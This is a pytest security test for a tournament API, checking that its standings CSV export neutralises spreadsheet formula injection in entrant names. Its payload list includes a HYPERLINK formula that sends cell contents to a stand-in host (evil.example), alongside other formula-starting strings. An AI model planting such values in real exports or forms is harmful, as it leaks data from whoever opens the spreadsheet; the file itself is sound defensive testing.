"""An entrant's name runs as a formula in the organizer's spreadsheet.

The hole: the standings CSV wrote names as they were, so an entrant named
``=HYPERLINK(...)`` became a live formula (a link that sends the sheet's
cells away, or worse) in whatever spreadsheet opened the export. Now a text
cell that a spreadsheet would read as a formula starts with ``'``, every text
cell is quoted, and booleans read ``true``/``false`` as in the JSON answer.
"""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from api.client.session import ClowderClient
from api.http.standings_csv import FORMULA_STARTS, spreadsheet_cell

pytestmark = pytest.mark.security

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"results")', "+1+1", "-2+3", "@SUM(A1:A9)", "a;=1+1")


async def test_names_that_look_like_formulas_reach_the_spreadsheet_as_text(
    http: httpx.AsyncClient, anonymous: ClowderClient
) -> None:
    organizer = anonymous.as_player((await anonymous.register("organizer"))["token"])
    tid = (await organizer.request("POST", "/tournaments", json={"kind": "feed-the-kitten", "format": "swiss"}))[
        "tournament_id"
    ]
    for name in FORMULAS:
        entrant = anonymous.as_player((await anonymous.register(name))["token"])
        await entrant.request("POST", f"/tournaments/{tid}/entrants")
    exported = await http.get(f"/tournaments/{tid}/standings", params={"format": "csv"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    print(f"standings CSV:\n{exported.text}")
    cells = [cell for row in rows for cell in row.values()]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert live == [], "no cell may start as a formula"
    names = sorted(row["name"] for row in rows)
    assert names == sorted(name if name[0] not in "=+-@" else "'" + name for name in FORMULAS)
    assert {row["withdrawn"] for row in rows} == {"false"}
    # Every text cell is quoted, so a ';' inside one cannot split it for a spreadsheet that separates on ';'.
    assert '"a;=1+1"' in exported.text


def test_a_tab_or_carriage_return_before_a_formula_is_defused_too() -> None:
    assert spreadsheet_cell("\t=1+1") == "'\t=1+1"
    assert spreadsheet_cell("\r=1+1") == "'\r=1+1"
    assert spreadsheet_cell("Ana") == "Ana"
    assert spreadsheet_cell(-1.5) == -1.5 and spreadsheet_cell(True) == "true" and spreadsheet_cell(False) == "false"
